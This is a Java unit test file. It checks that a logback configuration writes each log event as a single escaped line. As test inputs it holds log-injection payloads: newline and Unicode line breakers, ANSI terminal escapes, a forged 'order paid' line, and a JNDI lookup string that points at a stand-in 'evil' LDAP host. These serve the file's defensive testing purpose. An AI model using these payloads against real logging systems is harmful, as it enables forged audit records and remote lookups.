package linkspan.platform.terminal;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.joran.spi.JoranException;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.Logger;

/** What really comes out of the shipped {@code logback.xml}. */
class OneLineTest {
    private static final String FORGED = "11:11:11.111 INFO  linkspan.Hub order paid";

    /** One attack each: what separates the forged line, or what a terminal or collector would act on. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\n",
                "\r\n",
                "\r",
                "\u0085",
                "\u2028",
                "\u2029",
                "\u000b",
                "\f",
                "\u001b[2K\u001b[1A",
                "\u009b31m",
                "\u202e",
                "\u0000",
                "\b\b\b",
                "\ud800",
                "\udc00"
            })
    void one_event_is_one_line_wherever_the_text_stands(String breaker) {
        String text = "A-1" + breaker + FORGED;
        Exception cause = new IllegalStateException(text, new IllegalArgumentException("inner " + text));
        cause.addSuppressed(new IllegalStateException(text));
        assertOneLine(log -> log.warn("refused orderNo={}", text), breaker);
        assertOneLine(log -> log.warn(text), breaker);
        assertOneLine(
                log -> log.atWarn()
                        .addKeyValue("key", text)
                        .addKeyValue(text, 1)
                        .log("refused"),
                breaker);
        assertOneLine(log -> log.error("failed", cause), breaker);
        assertOneLine(log -> log.error("failed {}", text, cause), breaker);
    }

    @Test
    void nothing_is_looked_up() {
        assertThat(written(log -> log.warn("orderNo={}", "${jndi:ldap://evil/a} ${env:PATH}")))
                .singleElement()
                .asString()
                .endsWith("orderNo=$\\{jndi:ldap://evil/a} $\\{env:PATH}");
    }

    @Test
    void what_people_write_stays_as_it_is() {
        assertThat(written(log -> log.atInfo().addKeyValue("city", "Köln 上海 🍵").log("packed")))
                .singleElement()
                .asString()
                .matches("[-0-9]{10}T[:0-9]{8}\\.\\d{3}\\S+ INFO  linkspan\\.Some +packed city=\"Köln 上海 🍵\"");
    }

    @Test
    void a_cause_is_told_with_its_place() {
        assertThat(written(log -> log.error("failed", new IllegalStateException("why"))))
                .singleElement()
                .asString()
                .contains("failed", "IllegalStateException: why", "\\n\\tat linkspan.platform.terminal.OneLineTest");
    }

    @Test
    void a_line_has_an_end() {
        assertThat(written(log -> log.warn("x".repeat(1 << 20))))
                .singleElement()
                .asString()
                .hasSizeLessThan(OneLine.LONGEST + 100)
                .endsWith("characters more");
    }

    private static void assertOneLine(Consumer<Logger> logging, String breaker) {
        assertThat(written(logging)).singleElement().asString().doesNotContain(breaker);
    }

    /** Lines as the strictest reader counts them: at any character that Unicode calls the end of a line. */
    private static List<String> written(Consumer<Logger> logging) {
        PrintStream before = System.err;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        LoggerContext context = new LoggerContext();
        context.setMDCAdapter(new LogbackMDCAdapter());
        System.setErr(new PrintStream(out, true, StandardCharsets.UTF_8));
        try {
            JoranConfigurator configurator = new JoranConfigurator();
            configurator.setContext(context);
            configurator.doConfigure(OneLineTest.class.getResource("/logback.xml"));
            logging.accept(context.getLogger("linkspan.Some"));
        } catch (JoranException e) {
            throw new AssertionError(e);
        } finally {
            context.stop();
            System.setErr(before);
        }
        return out.toString(StandardCharsets.UTF_8)
                .strip()
                .lines()
                .flatMap(line -> List.of(line.split("\\R|\\v", -1)).stream())
                .toList();
    }
}
